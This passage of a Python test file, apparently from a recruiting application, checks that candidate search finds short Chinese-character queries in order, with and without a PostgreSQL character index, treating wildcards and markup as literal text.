            io.StringIO("".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))
        )
    )[1:]
    record = dict(zip(candidates.EXPORT_COLUMNS, row, strict=True))
    assert (record["name"], record["email"], record["phone"]) == ("O'Brien 张", "ob@example.com", "13800138000")


@pytest.mark.parametrize("indexed", [False, True], ids=["without", "with the character index"])
def test_a_search_of_one_or_two_chinese_characters_finds_the_texts_holding_them_in_that_order(
    session, make, indexed: bool
) -> None:
    """On PostgreSQL a search of one or two characters, not all ASCII, also asks the index of each text's
    characters (migration 0016; the trigram index cannot serve it): what it finds is what the LIKE alone finds —
    the characters together and in order, wildcards and markup taken as text."""
    from sqlalchemy import event, text

    if indexed and session.get_bind().dialect.name == "postgresql":
        session.execute(
            text("CREATE INDEX ix_candidate_search_chars ON candidate USING gin (string_to_array(search_text, NULL))")
        )
    recruiter = make.user("recruiter")
    names = {"王磊": None, "磊王": None, "王小磊": None, "Emma Wang": None, "100%王": None, "<b>王</b>": None}
    for name in names:
        names[name] = make.candidate(actor=recruiter, name=name).id
    statements: list[str] = []

    def capture(_conn, _cursor, statement, *_args) -> None:
        statements.append(statement)

    event.listen(session.get_bind(), "before_cursor_execute", capture)
    try:

        def found(q: str) -> set[str]:
            return {r["name"] for r in search(session, recruiter, q=q).rows}

        assert found("王磊") == {"王磊"}
        assert found("王") == {"王磊", "磊王", "王小磊", "100%王", "<b>王</b>"}
        assert found(" 磊 ") == {"王磊", "磊王", "王小磊"}
        assert found("%王") == {"100%王"}
        assert found("b>王") == {"<b>王</b>"}
        assert found("王小磊") == {"王小磊"}
        assert found("wang") == {"Emma Wang"}
        assert found("磊磊") == set()
    finally:
        event.remove(session.get_bind(), "before_cursor_execute", capture)
    uses_characters = ["string_to_array" in s for s in statements if "search_text LIKE" in s]
    if session.get_bind().dialect.name == "postgresql":  # 王磊 王 磊 %王: short, not ASCII; b>王 王小磊 wang: not
        assert uses_characters == [True, True, True, True, False, False, False, True]
        session.execute(text("DROP INDEX IF EXISTS ix_candidate_search_chars"))  # the run's schema is shared
        session.commit()
    else:
        assert not any(uses_characters)
